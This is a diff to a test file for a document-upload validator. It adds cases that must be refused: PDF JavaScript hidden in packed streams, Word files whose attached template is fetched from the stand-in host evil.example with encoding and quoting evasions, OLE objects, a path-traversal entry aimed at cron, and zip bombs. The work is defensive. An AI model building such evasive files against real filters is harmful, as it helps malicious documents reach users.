@@ -83,17 +83,23 @@ const docx = (...more: TestPart[]): Buffer =>
   ]);
 
 describe('refused files', () => {
-  const packed = (object: string): string => {
+  const packed = (object: string, lineEnd = '\n'): string => {
     const body = deflateSync(Buffer.from(object)).toString('latin1');
-    return `5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${body.length} >>\nstream\n${body}\nendstream\nendobj\n`;
+    return `5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${body.length} >>\nstream${lineEnd}${body}\nendstream\nendobj\n`;
   };
   const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
   const latin = (text: string): Buffer => Buffer.from(text, 'latin1');
   const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(400, 1)]);
-  const relation = (type: string, target: string): TestPart => ({
+  const relation = (
+    type: string,
+    target: string,
+    mode = 'TargetMode="External"',
+    element = 'Relationship',
+  ): TestPart => ({
     name: 'word/_rels/settings.xml.rels',
-    content: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
+    content: `<Relationships><${element} Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${mode}/></Relationships>`,
   });
+  const TEMPLATE = 'https://evil.example/t.dotm';
 
   test.each<[string, string, string | Buffer, string]>([
     ['a program that is called a PDF', 'invoice.pdf', exe, 'FILE_TYPE'],
@@ -125,6 +131,8 @@ describe('refused files', () => {
       'FILE_UNSAFE',
     ],
     ['a script in a packed stream', 'd.pdf', latin(plainPdf(packed(`3 0 ${SCRIPT}`))), 'FILE_UNSAFE'],
+    ['the same after a lone carriage return', 'd2.pdf', latin(plainPdf(packed(`3 0 ${SCRIPT}`, '\r'))), 'FILE_UNSAFE'],
+    ['the same after a space', 'd3.pdf', latin(plainPdf(packed(`3 0 ${SCRIPT}`, ' \n'))), 'FILE_UNSAFE'],
     [
       'a PDF that starts a program',
       'e.pdf',
@@ -135,14 +143,28 @@ describe('refused files', () => {
     ['a PDF with a password', 'g.pdf', plainPdf('').replace('/Root', '/Encrypt 7 0 R /Root'), 'FILE_UNSAFE'],
     ['an archive that is called a document', 'h.docx', zipFile([{ name: 'a.txt', content: 'a' }]), 'FILE_TYPE'],
     ['macros', 'i.docx', docx({ name: 'word/vbaProject.bin', content: 'x' }), 'FILE_UNSAFE'],
+    ['a template that is fetched', 'j.docx', docx(relation('attachedTemplate', TEMPLATE)), 'FILE_UNSAFE'],
     [
-      'a template that is fetched',
-      'j.docx',
-      docx(relation('attachedTemplate', 'https://evil.example/t.dotm')),
+      'the same, spelled with a reference',
+      'j2.docx',
+      docx(relation('attachedTemplate', TEMPLATE, 'TargetMode="&#69;xternal"')),
       'FILE_UNSAFE',
     ],
+    [
+      'the same, with a prefix and in single quotes',
+      'j3.docx',
+      docx(relation('attachedTemplate', TEMPLATE, "TargetMode = 'external'", 'r:Relationship')),
+      'FILE_UNSAFE',
+    ],
+    [
+      'the same, with an address that ends as a link’s type',
+      'j4.docx',
+      docx(relation('attachedTemplate', 'https://evil.example/relationships/hyperlink')),
+      'FILE_UNSAFE',
+    ],
+    ['a program object', 'j5.docx', docx(relation('oleObject', 'embeddings/oleObject1.bin', '')), 'FILE_UNSAFE'],
     ['a part outside of the archive', 'k.docx', docx({ name: '../../etc/cron.d/x', content: 'x' }), 'FILE_UNREADABLE'],
-    ['a bomb', 'l.docx', docx({ name: 'word/media/a.xml', content: Buffer.alloc(201 * 1024 * 1024) }), 'FILE_LIMIT'],
+    ['a bomb', 'l.docx', docx({ name: 'word/media/a.xml', content: Buffer.alloc(101 * 1024 * 1024) }), 'FILE_LIMIT'],
     [
       'a bomb that lies about its size',
       'm.docx',
